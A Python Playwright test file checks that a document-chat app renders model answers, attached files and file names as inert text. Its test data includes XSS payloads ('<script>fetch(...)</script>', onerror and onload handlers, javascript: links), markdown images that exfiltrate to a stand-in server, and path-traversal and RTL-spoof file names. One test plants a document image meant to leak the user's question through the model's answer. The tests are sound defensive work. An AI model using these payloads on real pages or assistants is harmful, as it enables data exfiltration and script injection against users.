"""What models, documents and file names say is text: it runs nothing, asks nobody, and is not mistaken for the page."""

import asyncio
import re
from collections.abc import AsyncIterator

import pytest_asyncio
from playwright.async_api import Dialog, expect

from tests.browser.chat import Answer, Chat, OpenChat
from tests.fake_server import FakeServer, Script

QUESTION = "How does BM25 score a passage?"
REFUSED = (
    "Loading the image '{}' violates the following Content Security Policy directive: \"img-src 'self' data: blob:\""
)

# The right edge of what reaches furthest to the right, of all that is drawn.
WIDEST = """() => Math.max(document.documentElement.scrollWidth,
    ...[...document.querySelectorAll('body *')].map((node) => node.getBoundingClientRect().right))"""


@pytest_asyncio.fixture(loop_scope="session")
async def elsewhere() -> AsyncIterator[str]:
    """The address of another server, which nothing may ask for anything."""
    asked: list[bytes] = []

    async def hear(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        asked.append(await reader.readline())
        writer.close()

    async with await asyncio.start_server(hear, "127.0.0.1", 0) as server:
        yield f"http://127.0.0.1:{server.sockets[0].getsockname()[1]}"
    assert asked == []


def popups(chat: Chat) -> list[str]:
    """What this visitor's pages pop up from now on."""
    shown: list[str] = []

    async def dismiss(dialog: Dialog) -> None:
        shown.append(f"{dialog.type}: {dialog.message}")
        await dialog.dismiss()

    chat.page.context.on("dialog", dismiss)
    return shown


async def say(chat: Chat, models: FakeServer, words: str) -> Answer:
    models.enqueue("phi-4-mini", Script(words=words))
    await chat.pick("phi-4-mini")
    answer = await chat.ask(QUESTION)
    await answer.settles("phi-4-mini answered, and its passages do not bear it out")
    return answer


def forgive_images(chat: Chat, *addresses: str) -> None:
    """The browser refused these images, each of them, and nothing else was wrong: what it said of them is expected."""
    refused = {address: REFUSED.format(address) for address in addresses}
    assert {line.partition('". The action')[0] + '"' for line in chat.complaints} == set(refused.values())
    assert set(chat.outside) == set(refused)  # Playwright counts also what never left the browser
    chat.complaints.clear()
    chat.outside.clear()


async def test_no_image_of_an_answer_is_fetched_from_elsewhere(chat: Chat, models: FakeServer, elsewhere: str) -> None:
    words = f"Look ![here]({elsewhere}/?q=1) and ![there][1], both.\n\n[1]: {elsewhere}/?q=2\n"
    answer = await say(chat, models, words)
    await answer.says("and ![there][1], both.")  # an answer defines nothing: what would is shown as written
    await answer.says(f"[1]: {elsewhere}/?q=2")
    forgive_images(chat, f"{elsewhere}/?q=1")


async def test_an_image_that_a_document_smuggles_into_an_answer_is_not_fetched(
    chat: Chat, models: FakeServer, elsewhere: str
) -> None:
    planted = f"The zebrafish snorkel ![x]({elsewhere}/?q=what-you-asked) hangs in locker thirteen."
    await chat.attach(("snorkel.md", f"# Snorkel\n\n{planted}\n".encode()))
    answer = await chat.ask("Where does the zebrafish snorkel hang?")
    await answer.settles("phi-4-mini answered")
    await answer.says("hangs in locker thirteen")  # the model quotes it
    await answer.opens(answer.sources)
    await expect(answer.sources.locator(".td-text")).to_contain_text(planted)
    await answer.button("Preview snorkel.md").first.click()
    await expect(chat.page.locator(".td-document")).to_contain_text(planted)
    await expect(chat.page.locator(".td img")).to_have_count(0)
    forgive_images(chat, f"{elsewhere}/?q=what-you-asked")


async def test_markup_in_an_answer_is_shown_as_it_was_written(chat: Chat, models: FakeServer, elsewhere: str) -> None:
    shown = popups(chat)
    markup = (
        f'<form action="{elsewhere}/form"><button>Send</button></form>',
        f'<script>fetch("{elsewhere}/script"); alert(1)</script>',
        f'<img src="{elsewhere}/image" onerror="alert(1)">',
        f'<iframe src="{elsewhere}/frame"></iframe>',
        f'<meta http-equiv="refresh" content="0;url={elsewhere}/meta">',
        f'<link rel="stylesheet" href="{elsewhere}/style">',
        "<svg onload=alert(1)></svg>",
    )
    answer = await say(chat, models, "\n\n".join(markup))
    for written in markup:
        await answer.says(written)
    await expect(answer.words.locator("form, button, script, img, iframe, meta, link, svg")).to_have_count(0)
    assert shown == []


async def test_links_say_where_they_lead_and_run_nothing(chat: Chat, models: FakeServer, elsewhere: str) -> None:
    shown = popups(chat)
    host = elsewhere.removeprefix("http://")
    words = (
        f"[the paper]({elsewhere}/a) [example.org]({elsewhere}/b) [https://example.org/c]({elsewhere}/c) "
        "[press me](javascript:alert(1)) [or me](data:text/html,<script>alert(1)</script>)"
    )
    answer = await say(chat, models, words)
    places = answer.words.locator("a + .td-leads-to")
    await expect(places).to_have_text([host, f"leads to {host}", f"leads to {host}"])
    await expect(answer.words.locator("a[data-td-misleads]")).to_have_text(["example.org", "https://example.org/c"])
    for link in await answer.words.locator("a", has_text=re.compile("the paper|example")).all():
        await expect(link).to_have_attribute("rel", re.compile("noopener noreferrer"))
        await expect(link).to_have_attribute("target", "_blank")
    for name in ("press me", "or me"):
        link = answer.words.locator("a", has_text=name)
        assert not await link.get_attribute("href")
        await link.click()
    await expect(answer.words).to_be_visible()
    assert chat.page.url == f"{chat.url}/" and shown == []


async def test_an_attached_page_or_picture_is_never_opened_as_one(
    chat: Chat, models: FakeServer, elsewhere: str
) -> None:
    shown = popups(chat)
    script = f"<script>fetch('{elsewhere}/file'); alert(1)</script>"
    page = "page.html", f"<!doctype html><p>The zebrafish snorkel.</p>{script}".encode()
    drawing = "drawing.svg", f'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">{script}</svg>'.encode()
    await chat.attach(page, drawing)
    for chip in await chat.attached.all():
        await chip.click()
    answer = await chat.send()
    await answer.settles("Read 1 file, 1 could not be read")
    async with chat.page.expect_download() as download:
        await chat.questions.locator("a", has_text="page.html").click()
    assert (await download.value).suggested_filename == "page.html"
    await chat.questions.locator("a", has_text="drawing.svg").click()  # which is gone: it was refused
    await answer.root.get_by_role("button", name="Preview page.html").click()
    await expect(chat.page.locator(".td-document")).to_contain_text("The zebrafish snorkel.")
    assert chat.page.context.pages == [chat.page] and shown == []
    await expect(chat.page.locator("iframe, object, embed")).to_have_count(0)


async def test_hostile_names_are_text_and_break_no_narrow_page(open_chat: OpenChat, models: FakeServer) -> None:
    chat = await open_chat(viewport={"width": 390, "height": 800}, has_touch=True, is_mobile=True)
    shown = popups(chat)
    names = {
        "<img src=x onerror=alert(1)>.md": "<img src=x onerror=alert(1)>.md",
        "snorkel\u202efdp.md": "snorkelfdp.md",
        "../../etc/passwd.md": "../../etc/passwd.md",
        "..\\..\\boot.md": "..\\..\\boot.md",
        f"{'x' * 180}.md": f"{'x' * 38}…{'x' * 19}.md",
        "`a` **b** [c](http://example.org).md": "`a` **b** [c](http://example.org).md",
    }
    files = [(name, f"Number {number} tells of zebrafish.".encode()) for number, name in enumerate(names)]
    await chat.drop(*files)
    assert await chat.page.evaluate(WIDEST) <= 390
    answer = await chat.ask("What is told of zebrafish?")
    await answer.settles("phi-4-mini answered")
    await expect(answer.files.locator(".td-name")).to_have_text(list(names.values()))
    for panel in (answer.sources, answer.coverage, answer.timing):
        await answer.opens(panel)
    assert await chat.page.evaluate(WIDEST) <= 390
    await chat.open_documents()
    await expect(chat.documents.locator(".td-name")).to_have_text(list(names.values()))
    await chat.documents.get_by_role("button", name="remove ../../etc/passwd.md").click()
    await expect(chat.documents.get_by_text("Remove?")).to_be_visible()
    await chat.page.wait_for_function(f"({WIDEST})() <= 390")  # once the panel has come in
    await chat.documents.get_by_role("button", name="Preview <img").click()
    await expect(chat.page.locator(".td-document h2")).to_have_text("<img src=x onerror=alert(1)>.md")
    assert await chat.page.evaluate(WIDEST) <= 390 == await chat.page.evaluate("innerWidth")
    await expect(chat.page.locator("img[src='x']")).to_have_count(0)
    assert shown == []
